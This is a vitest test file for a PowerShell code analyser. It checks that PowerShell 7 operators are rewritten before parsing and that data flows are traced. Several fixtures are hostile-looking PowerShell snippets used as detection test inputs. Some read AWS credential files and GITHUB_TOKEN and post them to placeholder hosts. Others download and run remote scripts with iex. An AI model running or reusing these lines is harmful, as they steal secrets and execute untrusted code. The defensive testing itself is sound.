import { describe, expect, it } from 'vitest';
import { prepareForGrammar } from '../../../src/analysis/code/powershell/grammar-text.js';
import { factsOf, ofKind } from '../../support/code.js';

/**
 * PowerShell 7 syntax the Windows PowerShell grammar does not know (`??`, `??=`, `&&`, `||`) must not hide
 * the statements after it, and `$env:X ?? 'https://…'` goes to the shipped default unless the user sets X.
 */

const ps = (code: string) => factsOf('powershell', code);

describe('PowerShell 7 operators before parsing', () => {
  it('are replaced in code only, keeping every offset', () => {
    const code = [
      "$u = $env:SYNC ?? 'https://a.example.invalid/x'",
      '$n ??= 3',
      'Test-Path x && Write-Output ok || Write-Output no',
      '$s = "keep ?? this && that" # and ?? this',
      "$t = 'and || this'",
      '<# block ?? comment #>',
    ].join('\n');
    const out = prepareForGrammar(code);
    expect(out.length).toBe(code.length);
    const lines = out.split('\n');
    expect(lines[0]).toBe("$u = $env:SYNC -f 'https://a.example.invalid/x'");
    expect(lines[1]).toBe('$n   = 3');
    expect(lines[2]).toBe('Test-Path x ;  Write-Output ok ;  Write-Output no');
    expect(lines.slice(3)).toEqual(code.split('\n').slice(3));
  });

  it('text without them is returned as is', () => {
    const code = "$a = 'plain'; Write-Output $a";
    expect(prepareForGrammar(code)).toBe(code);
  });
});

describe('PowerShell 7 operators in analysis', () => {
  it('an environment variable with a shipped URL default sends to the default', async () => {
    const r = await ps(`$collector = $env:SYNC_ENDPOINT ?? 'https://collector.example.invalid/v1/in'
$payload = Get-Content -Raw (Join-Path $HOME '.aws/credentials')
Invoke-RestMethod -Uri $collector -Method Post -Body $payload`);
    const send = ofKind(r, 'send')[0]!;
    expect(send.endpoint.host).toBe('collector.example.invalid');
    expect(send.data.secret).toBeDefined();
    expect(r.units[0]!.parse).toBe('ok');
  });

  it('statements after `??` are still analysed', async () => {
    const r = await ps(`$region = $env:AWS_REGION ?? 'eu-west-1'
iex (iwr 'https://boot.example.invalid/stage2.ps1' -UseBasicParsing).Content`);
    expect(ofKind(r, 'execute')[0]!.code.taints).toContain('download');
  });

  it('`??=` assigns, and a `&&` chain runs its second command', async () => {
    const r = await ps(`$src ??= 'https://boot.example.invalid/next.ps1'
Set-Location $env:TEMP && iex (Invoke-WebRequest $src -UseBasicParsing).Content`);
    const exec = ofKind(r, 'execute')[0]!;
    expect(exec.code.taints).toContain('download');
  });

  it('a non-URL default keeps the environment value', async () => {
    const r = await ps(`$org = $env:ADO_ORG ?? 'contoso'
Invoke-RestMethod -Uri "https://dev.azure.com/$org/_apis/projects"`);
    expect(ofKind(r, 'send')).toEqual([]);
    const fetch = ofKind(r, 'fetch')[0]!;
    expect(fetch.endpoint.host).toBe('dev.azure.com');
  });
});

describe('PowerShell hashtables filled entry by entry', () => {
  it('a body built with `$h.key = …` and `$h[$k] = …` carries every entry to the send', async () => {
    const r = await ps(`$report = [ordered]@{ host = [Environment]::MachineName }
foreach ($name in 'credentials', 'config') {
  $report[$name] = Get-Content -Raw (Join-Path $HOME ".aws/$name")
}
$report.token = $env:GITHUB_TOKEN
$req = @{ Uri = 'https://intake.example.invalid/r'; Method = 'Post'; Body = ($report | ConvertTo-Json) }
Invoke-RestMethod @req`);
    const send = ofKind(r, 'send')[0]!;
    expect(send.endpoint.host).toBe('intake.example.invalid');
    expect(send.data.taints).toEqual(expect.arrayContaining(['file', 'secret']));
  });

  it('a table filled with plain settings sends no secret', async () => {
    const r = await ps(`$opts = @{}
$opts.name = 'nightly'
$opts['branch'] = 'main'
Invoke-RestMethod -Uri 'https://ci.example.invalid/api/runs' -Method Post -Body ($opts | ConvertTo-Json)`);
    const send = ofKind(r, 'send')[0]!;
    expect(send.data.secret).toBeUndefined();
    expect(send.data.taints).not.toContain('secret');
  });
});
